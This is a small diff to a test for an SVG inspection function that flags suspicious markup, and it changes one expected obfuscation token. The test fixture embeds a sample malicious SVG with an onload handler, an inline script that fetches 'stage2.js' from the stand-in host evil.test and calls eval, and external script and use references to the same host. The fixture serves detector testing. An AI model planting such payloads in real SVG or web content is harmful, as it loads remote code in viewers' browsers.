@@ -70,7 +70,7 @@ def test_svg(spark):
     assert not calm["is_suspicious"] and calm["inline_urls"] == []
     got = one(spark, svg.inspect(F.col("s")), s='<svg onload="go()"><svg:script>fetch("https://evil.test/stage2.js");eval(x)</svg:script><script xlink:href="https://evil.test/l.js"/><use href="https://evil.test/u#a"/></svg>')
     assert got["has_inline_script"] and got["has_external_script"] and got["has_event_handler"] and got["has_external_use"] and got["is_suspicious"]
-    assert got["inline_urls"] == ["https://evil.test/stage2.js"] and got["script_src_urls"] == ["https://evil.test/l.js"] and got["obfuscation"] == ["eval("]
+    assert got["inline_urls"] == ["https://evil.test/stage2.js"] and got["script_src_urls"] == ["https://evil.test/l.js"] and got["obfuscation"] == ["eval"]
 
 
 def test_eml_with_nested_message(spark):
